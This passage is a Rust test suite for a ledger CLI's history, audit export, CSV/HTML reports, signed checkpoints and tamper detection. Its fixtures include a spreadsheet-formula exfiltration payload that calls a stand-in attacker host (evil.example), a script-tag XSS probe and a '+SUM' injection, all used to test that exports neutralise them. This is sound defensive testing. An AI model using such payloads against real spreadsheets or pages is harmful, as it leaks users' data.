//! The ledger commands: init, note, history, show, verify, audit export,
//! reindex, repair, completions, man — and their bad-input errors.

use std::collections::BTreeMap;
use std::path::Path;
use std::process::Command;

use insta::assert_snapshot;
use rewind_ledger::page::surgery;
use rewind_ledger::{
    Column, Digest, Draft, EVENT_KINDS, Event, FileType, Ledger, Origin, PathMoved, RowImage,
    RowsChanged, RunStarted, SqlValue, Timestamp,
};
use rewind_tests::{NOW, TestEnv};

fn origin() -> Origin {
    Origin {
        actor: "tester@testhost".into(),
        host: "testhost".into(),
    }
}

/// A ledger with a run on a target that moved a path and changed two rows.
fn populated() -> TestEnv {
    let env = TestEnv::with_ledger();
    let mut ledger = Ledger::open(&env.ledger, origin()).unwrap();
    let now: Timestamp = NOW.parse().unwrap();
    ledger.set_clock(move || now);
    let run = Some("r1");
    let started = RunStarted {
        description: "demo".into(),
        spec_id: "ns3-vhost".into(),
        spec_path: "ns3.toml".into(),
        spec_sha256: Digest::of(b"spec"),
        spec_text: "[migration]".into(),
        target: Some("example.com".into()),
        vars: BTreeMap::from([("root".into(), "/srv/example.com".into())]),
    };
    let moved = PathMoved {
        copied: false,
        digest: Digest::of(b"tree"),
        file_type: FileType::Dir,
        from: "/srv/example.com/var/log".into(),
        step: 1,
        to: "/srv/example.com/web/log".into(),
    };
    let rows = RowsChanged {
        chunk: 0,
        columns: vec![
            Column {
                name: "id".into(),
                sql_type: "integer".into(),
            },
            Column {
                name: "name".into(),
                sql_type: "text".into(),
            },
        ],
        database: "sqlite://app.db".into(),
        key_columns: vec!["id".into()],
        rows: vec![
            RowImage {
                after: Some(vec![
                    SqlValue::Integer(7),
                    SqlValue::Text("O'Brien & Co".into()),
                ]),
                before: Some(vec![SqlValue::Integer(7), SqlValue::Text("obrien".into())]),
                key: vec![SqlValue::Integer(7)],
            },
            RowImage {
                after: Some(vec![SqlValue::Integer(8), SqlValue::Text("new".into())]),
                before: None,
                key: vec![SqlValue::Integer(8)],
            },
        ],
        step: 2,
        table: "teams".into(),
    };
    ledger
        .append_batch(vec![
            Draft::new(run, Event::RunStarted(started)),
            Draft::new(run, Event::PathMoved(moved)),
            Draft::new(run, Event::RowsChanged(rows)),
        ])
        .unwrap();
    env
}

/// The files below `dir`, except sled's own internals (it rewrites its
/// snapshot files whenever it is opened).
fn listing(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = walk(dir)
        .into_iter()
        .filter(|path| !path.contains("/store/"))
        .collect();
    names.sort();
    names
}

fn walk(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    if let Ok(entries) = std::fs::read_dir(dir) {
        for entry in entries.flatten() {
            let path = entry.path();
            out.push(path.display().to_string());
            if path.is_dir() {
                out.extend(walk(&path));
            }
        }
    }
    out
}

#[test]
fn init_creates_a_private_ledger_and_refuses_twice() {
    let env = TestEnv::new();
    assert_snapshot!(env.snapshot(&["init"]), @r"
    exit: 0
    ----- stdout -----
    initialized ledger [TEMP]/ledger (id 00000000-0000-4000-8000-000000000001)
    ----- stderr -----
    ");
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(&env.ledger).unwrap().permissions().mode() & 0o777,
        0o700
    );
    assert_snapshot!(env.snapshot(&["init"]), @r"
    exit: 2
    ----- stdout -----
    ----- stderr -----
    error: [TEMP]/ledger already holds a rewind ledger
    hint: use it as it is, or pass --ledger with another directory
    ");
}

#[test]
fn note_history_show() {
    let env = populated();
    assert_snapshot!(env.snapshot(&[
        "note",
        "checked the vhost by hand",
        "--run",
        "r1",
        "--seq",
        "2"
    ]));
    assert_snapshot!(env.snapshot(&["history"]));
    assert_snapshot!(env.snapshot(&["show", "4"]));
    assert_snapshot!(env.snapshot(&["--json", "show", "1"]));
}

/// The seqs `rewind --json history ARGS` lists.
pub(crate) fn history_seqs(env: &TestEnv, args: &[&str]) -> Vec<u64> {
    env.history(args)
        .iter()
        .map(|item| item["seq"].as_u64().unwrap())
        .collect()
}

#[test]
fn history_filters() {
    let env = populated();
    env.run(&["note", "unrelated"]);
    let seqs = |args: &[&str]| history_seqs(&env, args);
    assert_eq!(seqs(&[]), vec![1, 2, 3, 4]);
    assert_eq!(seqs(&["--run", "r1"]), vec![1, 2, 3]);
    assert_eq!(seqs(&["--target", "example.com"]), vec![1, 2, 3]);
    assert_eq!(seqs(&["--target", "other.org"]), Vec::<u64>::new());
    assert_eq!(seqs(&["--path", "/srv/example.com"]), vec![2]);
    assert_eq!(seqs(&["--path", "/srv/example.com/web/log/"]), vec![2]);
    assert_eq!(seqs(&["--path", "/srv/example"]), Vec::<u64>::new());
    assert_eq!(seqs(&["--table", "teams"]), vec![3]);
    assert_eq!(seqs(&["--table", "teams", "--key", "8"]), vec![3]);
    assert_eq!(seqs(&["--table", "teams", "--key", "9"]), Vec::<u64>::new());
    assert_eq!(seqs(&["--kind", "Note"]), vec![4]);
    assert_eq!(seqs(&["--kind", "PathMoved", "--run", "r1"]), vec![2]);
    assert_eq!(
        seqs(&["--since", "2026-01-02", "--until", "2026-01-02"]),
        vec![1, 2, 3, 4]
    );
    assert_eq!(seqs(&["--since", "2026-01-03"]), Vec::<u64>::new());
    assert_eq!(
        seqs(&["--until", "2026-01-02T03:04:04Z"]),
        Vec::<u64>::new()
    );
    assert_eq!(seqs(&["--limit", "2"]), vec![3, 4]);
    // The incident reviewer's view: the row before and after, side by side.
    assert_snapshot!(env.snapshot(&["history", "--table", "teams", "--key", "7"]));
}

#[test]
fn verify_and_export_agree_with_the_independent_verifier() {
    let env = populated();
    assert_snapshot!(env.snapshot(&["verify"]));
    let export = env.root().join("export.jsonl");
    let output = env.run(&[
        "audit",
        "export",
        "--format",
        "jsonl",
        "-o",
        export.to_str().unwrap(),
    ]);
    assert_eq!(output.code, 0, "{output:?}");
    let journal = std::fs::read(env.ledger.join("journal.jsonl")).unwrap();
    assert_eq!(
        std::fs::read(&export).unwrap(),
        journal,
        "a full export is the journal, byte for byte"
    );
    let run_export = env.run(&["audit", "export", "--run", "r1"]);
    assert_eq!(run_export.stdout.lines().count(), 3);
    if let Some((ok, stdout, stderr)) = python_verifier(&export, &[]) {
        assert!(ok, "{stdout}{stderr}");
    }
}

#[test]
fn audit_reports_are_readable_and_the_csv_verifies_like_the_jsonl() {
    let env = populated();
    let note = env.run(&[
        "note",
        "checked | by hand <script>alert('x')</script>\n*second* line, \"quoted\"",
        "--run",
        "r1",
    ]);
    assert_eq!(note.code, 0, "{note:?}");
    for (format, name) in [("md", "audit_report_md"), ("html", "audit_report_html")] {
        let output = env.run(&["audit", "export", "--format", format]);
        assert_eq!(output.code, 0, "{output:?}");
        assert_snapshot!(name, output.stdout);
    }
    let run_report = env.run(&["audit", "export", "--format", "md", "--run", "r1"]);
    assert!(
        run_report
            .stdout
            .contains("rewind audit export --format jsonl -o trail.jsonl --from-seq 1 --to-seq 4"),
        "{}",
        run_report.stdout
    );
    let (csv, text) = export_csv(&env, "trail.csv");
    assert_snapshot!("audit_report_csv", text);
    if let Some((ok, stdout, stderr)) = python_verifier(&csv, &[]) {
        assert!(ok, "{stdout}{stderr}");
        assert!(stdout.starts_with("ok: 4 events"), "{stdout}");
    }
    // A changed record, or a reading column that no longer agrees with it,
    // is caught.
    for (from, to, expected) in [
        ("O'Brien & Co", "O'Brien & Sons", "row 3: seq 3: altered"),
        (
            ",tester@testhost,",
            ",someone@else,",
            "row 1: seq 1: the actor column says",
        ),
    ] {
        assert!(text.contains(from), "{from}");
        let tampered = env.root().join("tampered.csv");
        std::fs::write(&tampered, text.replacen(from, to, 1)).unwrap();
        if let Some((ok, _, stderr)) = python_verifier(&tampered, &[]) {
            assert!(!ok && stderr.contains(expected), "{stderr}");
        }
    }
}

/// The seqs of a JSONL export, in order.
fn jsonl_seqs(stdout: &str) -> Vec<u64> {
    stdout
        .lines()
        .map(|line| {
            let value: serde_json::Value = serde_json::from_str(line).unwrap();
            value["seq"].as_u64().unwrap()
        })
        .collect()
}

#[test]
fn the_proof_printed_in_a_report_still_verifies_after_the_ledger_grows() {
    let env = populated();
    assert_eq!(env.run(&["note", "checked", "--run", "r1"]).code, 0);
    let scopes: [&[&str]; 4] = [
        &[],
        &["--run", "r1"],
        &["--since", "2026-01-02"],
        &["--run", "r1", "--from-seq", "2", "--to-seq", "3"],
    ];
    let reports: Vec<String> = scopes
        .iter()
        .map(|scope| {
            let mut args = vec!["audit", "export", "--format", "md"];
            args.extend_from_slice(scope);
            let output = env.run(&args);
            assert_eq!(output.code, 0, "{output:?}");
            output.stdout
        })
        .collect();
    // One more event in the run and in the period: a command rebuilt from
    // --run or --since would now export it too, and end past the head.
    assert_eq!(env.run(&["note", "later", "--run", "r1"]).code, 0);
    let trail = env.root().join("trail.jsonl");
    let trail = trail.to_str().unwrap();
    for report in reports {
        let block = report
            .split("```sh\n")
            .nth(1)
            .and_then(|rest| rest.split("```").next())
            .unwrap_or_else(|| panic!("no commands in {report}"));
        let mut lines = block.lines();
        let words = |line: Option<&str>| -> Vec<String> {
            line.unwrap()
                .split_whitespace()
                .map(|word| if word == "trail.jsonl" { trail } else { word }.to_owned())
                .collect()
        };
        let export = words(lines.next());
        assert_eq!(export[0], "rewind", "{block}");
        let export: Vec<&str> = export[1..].iter().map(String::as_str).collect();
        let output = env.run(&export);
        assert_eq!(output.code, 0, "{output:?}");
        let verify = words(lines.next());
        assert_eq!(
            verify[..3],
            ["python3", "tools/verify_chain.py", trail],
            "{block}"
        );
        let head = verify
            .iter()
            .position(|word| word == "--head")
            .map(|at| verify[at + 1].clone())
            .unwrap();
        let text = std::fs::read_to_string(trail).unwrap();
        let last: serde_json::Value = serde_json::from_str(text.lines().last().unwrap()).unwrap();
        assert_eq!(last["hash"], head.as_str(), "{block}\n{text}");
        let first = report
            .split("Events seq ")
            .nth(1)
            .and_then(|rest| rest.split(' ').next())
            .unwrap();
        assert_eq!(
            jsonl_seqs(&text).first().map(u64::to_string).as_deref(),
            Some(first),
            "{block}"
        );
        let rest: Vec<&str> = verify[3..].iter().map(String::as_str).collect();
        if let Some((ok, stdout, stderr)) = python_verifier(Path::new(trail), &rest) {
            assert!(ok, "{block}\n{stdout}{stderr}");
        }
    }
}

#[test]
fn an_export_by_seq_is_what_every_filter_covers() {
    let env = populated();
    assert_eq!(env.run(&["note", "checked", "--run", "r1"]).code, 0);
    assert_eq!(env.run(&["note", "unrelated"]).code, 0);
    let seqs = |args: &[&str]| -> Vec<u64> {
        let mut argv = vec!["audit", "export"];
        argv.extend_from_slice(args);
        let output = env.run(&argv);
        assert_eq!(output.code, 0, "{output:?}");
        jsonl_seqs(&output.stdout)
    };
    assert_eq!(seqs(&["--from-seq", "2"]), vec![2, 3, 4, 5]);
    assert_eq!(seqs(&["--to-seq", "2"]), vec![1, 2]);
    assert_eq!(seqs(&["--from-seq", "3", "--to-seq", "3"]), vec![3]);
    assert_eq!(seqs(&["--run", "r1", "--from-seq", "2"]), vec![2, 3, 4]);
    assert_eq!(seqs(&["--run", "r1", "--to-seq", "5"]), vec![1, 2, 3, 4]);
    assert_eq!(
        seqs(&["--since", "2026-01-02", "--from-seq", "4", "--to-seq", "5"]),
        vec![4, 5]
    );
    assert_eq!(
        seqs(&["--since", "2026-01-03", "--from-seq", "1"]),
        Vec::<u64>::new()
    );
    let part = env.root().join("part.jsonl");
    let output = env.run(&[
        "audit",
        "export",
        "--from-seq",
        "2",
        "--to-seq",
        "3",
        "-o",
        part.to_str().unwrap(),
    ]);
    assert_eq!(output.code, 0, "{output:?}");
    let first: serde_json::Value = serde_json::from_str(
        std::fs::read_to_string(&part)
            .unwrap()
            .lines()
            .next()
            .unwrap(),
    )
    .unwrap();
    if let Some((ok, stdout, stderr)) =
        python_verifier(&part, &["--prev", first["prev"].as_str().unwrap()])
    {
        assert!(
            ok && stdout.starts_with("ok: 2 events, seq 2..3"),
            "{stdout}{stderr}"
        );
    }
    let empty = TestEnv::with_ledger();
    let output = empty.run(&["audit", "export", "--to-seq", "1"]);
    assert_eq!(output.code, 2, "{output:?}");
    assert!(
        output.stderr.contains("whose head is seq 0") && output.stderr.contains("no events yet"),
        "{}",
        output.stderr
    );
}

/// The CSV export of a ledger, written to `name` in its temporary directory.
fn export_csv(env: &TestEnv, name: &str) -> (std::path::PathBuf, String) {
    let csv = env.root().join(name);
    let output = env.run(&[
        "audit",
        "export",
        "--format",
        "csv",
        "-o",
        csv.to_str().unwrap(),
    ]);
    assert_eq!(output.code, 0, "{output:?}");
    let text = std::fs::read_to_string(&csv).unwrap();
    (csv, text)
}

/// A CSV export with its header line replaced.
fn with_header(text: &str, header: &str) -> String {
    let (_, rows) = text.split_once("\r\n").unwrap();
    format!("{header}\r\n{rows}")
}

/// A CSV export with `field` added to the end of every row but the header.
fn with_field(text: &str, field: &str) -> String {
    let (header, rows) = text.split_once("\r\n").unwrap();
    let rows = rows.replace("\r\n", &format!(",{field}\r\n"));
    format!("{header}\r\n{rows}")
}

#[test]
fn the_verifier_refuses_forged_csv_columns_and_headers() {
    let env = populated();
    assert_eq!(env.run(&["note", "checked", "--run", "r1"]).code, 0);
    let (csv, text) = export_csv(&env, "trail.csv");
    let header = rewind_projections::audit::CSV_COLUMNS.join(",");
    assert!(text.starts_with(&format!("{header}\r\n")), "{text}");
    let forged = |from: &str, to: &str| {
        assert!(text.contains(from), "{from:?} not in {text}");
        text.replacen(from, to, 1)
    };
    let cases = [
        (
            forged(",PathMoved,1,", ",PathMoved,7,"),
            "row 2: seq 2: the step column says '7', its record '1'",
        ),
        (
            forged(",RunStarted,,", ",RunStarted,1,"),
            "row 1: seq 1: the step column says '1', its record ''",
        ),
        // csv.DictReader kept the last of two columns of one name.
        (
            with_header(
                &with_field(&text, "mallory@evil"),
                &format!("{header},actor"),
            ),
            "the header: column 12 'actor' is not one of the export's 11 columns",
        ),
        (
            with_header(
                &text.replace(",testhost,", ",mallory@evil,"),
                &header.replace(",host,", ",actor,"),
            ),
            "the header: column 7 is 'actor', the export's is 'host'",
        ),
        (
            with_header(&with_field(&text, "fine"), &format!("{header},comment")),
            "the header: column 12 'comment' is not one of the export's 11 columns",
        ),
        (
            with_field(&text, "extra"),
            "row 1: column 12 holds 'extra', past the export's 11 columns",
        ),
        (
            with_header(&text, header.strip_suffix(",record").unwrap()),
            "the header: column 11 'record' is missing",
        ),
        (
            forged(
                ",run of ns3-vhost started on example.com,",
                ",nothing happened,",
            ),
            "",
        ),
    ];
    let tampered = env.root().join("tampered.csv");
    for (forgery, expected) in cases {
        std::fs::write(&tampered, &forgery).unwrap();
        if let Some((ok, stdout, stderr)) = python_verifier(&tampered, &[]) {
            if expected.is_empty() {
                // The summary is rewind's sentence about the event: no
                // verifier without rewind's code can recompute it, so the
                // "ok" of a CSV says it was not checked.
                assert!(ok, "{stdout}{stderr}");
                assert!(
                    stdout.contains("the summary column is for reading and was not checked"),
                    "{stdout}"
                );
            } else {
                assert!(!ok, "accepted:\n{forgery}\n{stdout}");
                assert!(
                    stderr.contains(expected),
                    "expected {expected:?} in {stderr}"
                );
            }
        }
    }
    if let Some((ok, stdout, stderr)) = python_verifier(&csv, &[]) {
        assert!(ok, "{stdout}{stderr}");
    }
}

#[test]
fn every_event_kind_exports_a_csv_that_verifies() {
    let env = TestEnv::with_ledger();
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("../ledger/tests/fixtures/v1");
    let mut drafts = Vec::new();
    // The sample checkpoint names a head of another ledger; this ledger's
    // own, signed, checkpoint stands for the kind instead.
    for kind in EVENT_KINDS.iter().filter(|kind| **kind != "Checkpoint") {
        let text = std::fs::read_to_string(fixtures.join(format!("{kind}.hex"))).unwrap();
        let bytes = hex::decode(text.split_whitespace().collect::<String>()).unwrap();
        let (_, record) = rewind_ledger::codec::decode_stored(&bytes, 0).unwrap();
        drafts.push(Draft {
            run: record.run,
            event: record.event,
        });
    }
    let mut ledger = Ledger::open(&env.ledger, origin()).unwrap();
    ledger.append_batch(drafts).unwrap();
    ledger.checkpoint(&[3; 32]).unwrap();
    drop(ledger);
    let (csv, text) = export_csv(&env, "kinds.csv");
    // Steps appear where an event has one, and the check covers both cases.
    assert!(
        text.contains(",PathMoved,") && text.contains(",Note,,"),
        "{text}"
    );
    if let Some((ok, stdout, stderr)) = python_verifier(&csv, &[]) {
        assert!(ok, "{stdout}{stderr}");
        let count = EVENT_KINDS.len();
        assert!(
            stdout.starts_with(&format!("ok: {count} events, seq 1..{count}")),
            "{stdout}"
        );
    }
}

/// The strings of `NAME = [...]` or `NAME = (...)` in the verifier's source.
fn python_strings(source: &str, name: &str) -> Vec<String> {
    let start = format!("\n{name} = ");
    let list = source
        .split_once(start.as_str())
        .and_then(|(_, rest)| rest.get(1..)?.split_once([']', ')']))
        .map(|(list, _)| list)
        .unwrap_or_else(|| panic!("tools/verify_chain.py defines no {name}"));
    list.split(',')
        .map(|item| item.trim().trim_matches('"'))
        .filter(|item| !item.is_empty())
        .map(|item| item.replace("\\t", "\t").replace("\\r", "\r"))
        .collect()
}

#[test]
fn the_verifiers_csv_columns_are_the_exports() {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../tools/verify_chain.py");
    let source = std::fs::read_to_string(script).unwrap();
    assert_eq!(
        python_strings(&source, "CSV_COLUMNS"),
        rewind_projections::audit::CSV_COLUMNS,
        "change CSV_COLUMNS in tools/verify_chain.py and projections/src/audit.rs together"
    );
    assert_eq!(
        python_strings(&source, "FORMULA_STARTS"),
        rewind_projections::audit::FORMULA_STARTS.map(String::from),
        "change FORMULA_STARTS in tools/verify_chain.py and projections/src/audit.rs together"
    );
}

#[test]
fn spreadsheet_formulas_in_a_csv_stay_text_and_it_still_verifies() {
    let env = populated();
    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
    assert_eq!(env.run(&["--actor", formula, "note", "checked"]).code, 0);
    {
        let chosen = Origin {
            actor: "@ops".into(),
            host: "-h".into(),
        };
        let mut ledger = Ledger::open(&env.ledger, chosen).unwrap();
        let Event::RowsChanged(mut rows) = ledger.get(3).unwrap().record.event else {
            panic!("seq 3 changed rows");
        };
        rows.table = "+SUM(1,2)".into();
        ledger
            .append_batch(vec![Draft::new(Some("'r2"), Event::RowsChanged(rows))])
            .unwrap();
    }
    let (csv, text) = export_csv(&env, "trail.csv");
    for cell in [
        r#","'=HYPERLINK(""http://evil.example/?""&A1,""click"")",testhost,Note,,note: checked,"#,
        r#",''r2,'@ops,'-h,RowsChanged,2,"'+SUM(1,2): 1 updated, 1 inserted, 0 deleted (chunk 0)","#,
    ] {
        assert!(text.contains(cell), "{cell} not in {text}");
    }
    if let Some((ok, stdout, stderr)) = python_verifier(&csv, &[]) {
        assert!(ok, "{stdout}{stderr}");
        assert!(stdout.starts_with("ok: 5 events"), "{stdout}");
    }
    let tampered = env.root().join("tampered.csv");
    for (from, to, expected) in [
        (
            r#","'=HYPERLINK"#,
            r#","=HYPERLINK"#,
            "row 4: seq 4: the actor column is written '=HYPERLINK",
        ),
        (
            r#","'+SUM(1,2):"#,
            r#","+SUM(1,2):"#,
            "row 5: seq 5: the summary column starts with '+'",
        ),
        (
            ",'@ops,",
            ",'@opz,",
            "row 5: seq 5: the actor column says '@opz', its record '@ops'",
        ),
        (
            ",testhost,Note,",
            ",'testhost,Note,",
            "row 4: seq 4: the host column is written \"'testhost\", the export writes 'testhost'",
        ),
    ] {
        assert!(text.contains(from), "{from}");
        std::fs::write(&tampered, text.replacen(from, to, 1)).unwrap();
        if let Some((ok, _, stderr)) = python_verifier(&tampered, &[]) {
            assert!(
                !ok && stderr.contains(expected),
                "{expected:?} not in {stderr}"
            );
        }
    }
}

#[test]
fn tampering_is_reported_with_its_seq_and_repair_rebuilds_from_the_journal() {
    let env = populated();
    {
        let db = surgery::open_store(&env.ledger.join("store"));
        let events = db.open_tree("events").unwrap();
        let mut value = surgery::read(&events, 2).unwrap();
        let last = value.len() - 3;
        value[last] ^= 0x01;
        surgery::replace(&events, 2, value);
        db.flush().unwrap();
    }
    let output = env.run(&["verify"]);
    assert_eq!(output.code, 4, "{output:?}");
    assert!(output.stderr.contains("at seq 2"), "{}", output.stderr);
    assert_snapshot!(env.snapshot(&["repair"]));
    assert_eq!(env.run(&["verify"]).code, 0);
}

#[test]
fn bad_input_changes_nothing() {
    let env = populated();
    let before = listing(env.root());
    let journal = std::fs::read(env.ledger.join("journal.jsonl")).unwrap();
    assert_snapshot!("unknown_seq", env.snapshot(&["show", "99"]));
    assert_snapshot!(
        "unknown_seq_note",
        env.snapshot(&["note", "x", "--seq", "99"])
    );
    assert_snapshot!(
        "unknown_run_note",
        env.snapshot(&["note", "x", "--run", "nope"])
    );
    assert_snapshot!(
        "malformed_time",
        env.snapshot(&["history", "--since", "last tuesday"])
    );
    assert_snapshot!(
        "unknown_kind",
        env.snapshot(&["history", "--kind", "pathmoved"])
    );
    assert_snapshot!("empty_note", env.snapshot(&["note", "  "]));
    assert_snapshot!(
        "export_seq_past_the_head",
        env.snapshot(&["audit", "export", "--from-seq", "2", "--to-seq", "9"])
    );
    assert_snapshot!(
        "export_seq_zero",
        env.snapshot(&["audit", "export", "--from-seq", "0"])
    );
    assert_snapshot!(
        "export_seqs_reversed",
        env.snapshot(&["audit", "export", "--from-seq", "3", "--to-seq", "2"])
    );
    assert_eq!(
        std::fs::read(env.ledger.join("journal.jsonl")).unwrap(),
        journal
    );

    let not_a_ledger = env.root().join("plain");
    std::fs::create_dir(&not_a_ledger).unwrap();
    std::fs::write(not_a_ledger.join("notes.txt"), "hello").unwrap();
    assert_snapshot!(
        "not_a_ledger",
        env.snapshot(&["--ledger", not_a_ledger.to_str().unwrap(), "history"])
    );
    assert_snapshot!(
        "init_non_empty",
        env.snapshot(&["--ledger", not_a_ledger.to_str().unwrap(), "init"])
    );
    assert_eq!(
        listing(&not_a_ledger),
        vec![not_a_ledger.join("notes.txt").display().to_string()]
    );
    let mut after = listing(env.root());
    after.retain(|path| !path.contains("/plain"));
    assert_eq!(before, after);
}

#[test]
fn newer_format_and_corrupt_record_are_refused() {
    let env = populated();
    let marker = env.ledger.join("LEDGER");
    let original = std::fs::read_to_string(&marker).unwrap();
    std::fs::write(&marker, original.replace("format = 1", "format = 2")).unwrap();
    assert_snapshot!("newer_format", env.snapshot(&["history"]));
    std::fs::write(&marker, &original).unwrap();
    {
        let db = surgery::open_store(&env.ledger.join("store"));
        surgery::replace(&db.open_tree("events").unwrap(), 3, vec![1u8, 2, 3]);
        db.flush().unwrap();
    }
    assert_snapshot!("corrupt_record", env.snapshot(&["show", "3"]));
}

#[test]
fn a_held_ledger_refuses_writers_and_readers_use_the_journal() {
    let env = populated();
    let holder = Ledger::open(&env.ledger, origin()).unwrap();
    assert_snapshot!("second_writer", env.snapshot(&["note", "while held"]));
    assert_snapshot!(
        "reader_while_held",
        env.snapshot(&["history", "--run", "r1"])
    );
    let verify = env.run(&["verify"]);
    assert_eq!(verify.code, 0, "{verify:?}");
    drop(holder);
    assert_eq!(env.run(&["note", "after"]).code, 0);
}

#[test]
fn completions_and_man_page() {
    let env = TestEnv::new();
    let bash = env.run(&["completions", "bash"]);
    assert_eq!(bash.code, 0);
    assert!(bash.stdout.contains("rewind") && bash.stdout.contains("history"));
    let man = env.run(&["man"]);
    assert!(
        man.stdout.starts_with(".ie") || man.stdout.contains(".TH"),
        "{}",
        &man.stdout[..100.min(man.stdout.len())]
    );
    assert_snapshot!("help", env.snapshot(&["--help"]));
}

#[test]
fn checkpoints_sign_the_head_and_forged_ones_fail_verification() {
    let env = populated();
    let key = env.root().join("signing.key");
    let key_arg = key.to_str().unwrap();
    assert_eq!(
        env.run(&["checkpoint", "--key", key_arg]).code,
        2,
        "a missing key is a usage error"
    );
    let output = env.run(&["checkpoint", "--key", key_arg, "--generate-key"]);
    assert_eq!(output.code, 0, "{output:?}");
    assert!(
        output
            .stdout
            .contains("rewind-checkpoint-v1:00000000-0000-4000-8000-000000000001:3:"),
        "{}",
        output.stdout
    );
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(&key).unwrap().permissions().mode() & 0o777,
        0o600
    );
    assert_eq!(
        env.run(&["checkpoint", "--key", key_arg, "--generate-key"])
            .code,
        2,
        "never overwrites a key"
    );
    let verify = env.run(&["verify"]);
    assert_eq!(verify.code, 0, "{verify:?}");
    assert!(
        verify.stdout.contains("newest signed checkpoint: seq 3"),
        "{}",
        verify.stdout
    );

    let public_key = output
        .stdout
        .lines()
        .find_map(|line| line.strip_prefix("public key "))
        .unwrap()
        .to_owned();
    let export = env.root().join("signed.jsonl");
    assert_eq!(
        env.run(&["audit", "export", "-o", export.to_str().unwrap()])
            .code,
        0
    );
    if let Some((ok, stdout, stderr)) = python_verifier(&export, &["--key", &public_key]) {
        assert!(ok, "{stdout}{stderr}");
        assert!(
            stdout.contains("checkpoints: 1 signed, the newest at seq 4"),
            "{stdout}"
        );
    }

    // A checkpoint whose signature was made up is caught at its seq.
    let mut ledger = Ledger::open(&env.ledger, origin()).unwrap();
    let (seq, head) = ledger.head();
    let mut forged = rewind_ledger::checkpoint::sign(ledger.ledger_id(), seq, &head, &[9u8; 32]);
    forged.signature.0[0] ^= 1;
    ledger.append(None, Event::Checkpoint(forged)).unwrap();
    drop(ledger);
    let verify = env.run(&["verify"]);
    assert_eq!(verify.code, 4, "{verify:?}");
    assert!(
        verify.stderr.contains("at seq 5") && verify.stderr.contains("signature"),
        "{}",
        verify.stderr
    );
    let journal = env.ledger.join("journal.jsonl");
    if let Some((ok, _, stderr)) = python_verifier(&journal, &[]) {
        assert!(!ok);
        assert!(
            stderr.contains("seq 5: the checkpoint's signature does not verify"),
            "{stderr}"
        );
    }
}

/// Runs tools/verify_chain.py when python3 is there: (success, stdout, stderr).
fn python_verifier(file: &Path, args: &[&str]) -> Option<(bool, String, String)> {
    python_tool("verify_chain.py", file, args)
}

/// Runs one of the Python tools in `tools/` when python3
/// is there (under CI it must be): (success, stdout, stderr).
#[allow(clippy::print_stderr, reason = "a skipped check says why")]
pub(crate) fn python_tool(
    name: &str,
    file: &Path,
    args: &[&str],
) -> Option<(bool, String, String)> {
    let script = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../tools")
        .join(name);
    let output = match Command::new("python3")
        .arg(&script)
        .arg(file)
        .args(args)
        .output()
    {
        Ok(output) => output,
        Err(error) if std::env::var("CI").as_deref() != Ok("true") => {
            eprintln!("skipping tools/{name}: python3 did not run ({error})");
            return None;
        }
        Err(error) => panic!("CI needs python3 for tools/{name}: {error}"),
    };
    Some((
        output.status.success(),
        String::from_utf8_lossy(&output.stdout).into_owned(),
        String::from_utf8_lossy(&output.stderr).into_owned(),
    ))
}

/// Whether `python3` can unseal row images (a zstd module: Python 3.14's
/// `compression.zstd`, or the `zstandard` package); outside CI, a test
/// that needs it is skipped without one, and says so.
#[allow(clippy::print_stderr, reason = "a skipped check says why")]
pub(crate) fn python_reads_zstd() -> bool {
    let found = ["import compression.zstd", "import zstandard"]
        .iter()
        .any(|import| {
            Command::new("python3")
                .args(["-c", import])
                .output()
                .is_ok_and(|output| output.status.success())
        });
    match found {
        true => true,
        false if std::env::var("CI").as_deref() != Ok("true") => {
            eprintln!(
                "skipping: python3 has no zstd module for sealed row images \
                 (pip install zstandard, or Python 3.14)"
            );
            false
        }
        false => panic!("CI needs a zstd module for python3 (.ci/run installs zstandard)"),
    }
}

#[test]
fn row_images_that_do_not_unpack_fail_verify_without_sending_the_operator_to_repair() {
    let env = populated();
    {
        let mut ledger = Ledger::open(&env.ledger, origin()).unwrap();
        ledger
            .append(
                Some("r1"),
                Event::RowsPacked(rewind_ledger::RowsPacked {
                    chunk: 1,
                    columns: vec![Column {
                        name: "id".into(),
                        sql_type: "integer".into(),
                    }],
                    database: "sqlite://app.db".into(),
                    // A deleted row's flags and the tag of an INTEGER whose
                    // eight bytes are missing.
                    images: rewind_ledger::Bytes(vec![1, 1]),
                    key_columns: vec!["id".into()],
                    rows: 1,
                    step: 2,
                    table: "teams".into(),
                }),
            )
            .unwrap();
    }
    let output = env.run(&["verify"]);
    assert_eq!(output.code, 4, "{output:?}");
    assert!(
        output
            .stderr
            .contains("seq 4 is unusable: the row images do not unpack")
            && output.stderr.contains("rewind show 4"),
        "{}",
        output.stderr
    );
    assert!(
        !output.stderr.contains("rewind repair"),
        "{}",
        output.stderr
    );
    // The same answer from the journal while another rewind holds the store.
    let _held = Ledger::open(&env.ledger, origin()).unwrap();
    let output = env.run(&["verify"]);
    assert_eq!(output.code, 4, "{output:?}");
    assert!(
        output.stderr.contains("seq 4 is unusable") && output.stderr.contains("store is in use"),
        "{}",
        output.stderr
    );
}

/// Two rows of a two-column key whose values hold commas: each row's
/// history finds its own event only, its key written with `\,`.
#[test]
fn history_tells_apart_keys_whose_values_hold_commas() {
    let env = TestEnv::with_ledger();
    let mut ledger = Ledger::open(&env.ledger, origin()).unwrap();
    let text = |value: &str| SqlValue::Text(value.into());
    let changed = |first: &str, second: &str| {
        let key = vec![text(first), text(second)];
        let mut after = key.clone();
        after.push(text("new"));
        Draft::new(
            Some("r1"),
            Event::RowsChanged(RowsChanged {
                chunk: 0,
                columns: ["last", "first", "note"]
                    .map(|name| Column {
                        name: name.into(),
                        sql_type: "text".into(),
                    })
                    .to_vec(),
                database: "sqlite://app.db".into(),
                key_columns: vec!["last".into(), "first".into()],
                rows: vec![RowImage {
                    after: Some(after),
                    before: None,
                    key,
                }],
                step: 1,
                table: "people".into(),
            }),
        )
    };
    ledger
        .append_batch(vec![
            changed("Smith, Jo", "Ann"),
            changed("Smith", "Jo, Ann"),
        ])
        .unwrap();
    drop(ledger);
    let seqs = |key: &str| history_seqs(&env, &["--table", "people", "--key", key]);
